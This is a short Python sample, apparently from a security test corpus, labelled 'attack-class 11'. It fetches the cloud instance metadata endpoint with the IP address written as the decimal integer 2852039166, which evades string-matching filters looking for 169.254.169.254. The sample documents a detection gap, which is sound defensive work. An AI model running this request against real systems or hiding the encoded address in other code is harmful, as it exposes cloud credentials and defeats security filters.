# attack-class: 11
# title: requests to the metadata address written as a decimal integer
# why: 2852039166 is 169.254.169.254; a string match on the dotted form misses it

import requests

print(requests.get("http://2852039166/latest/meta-data/", timeout=2).text)
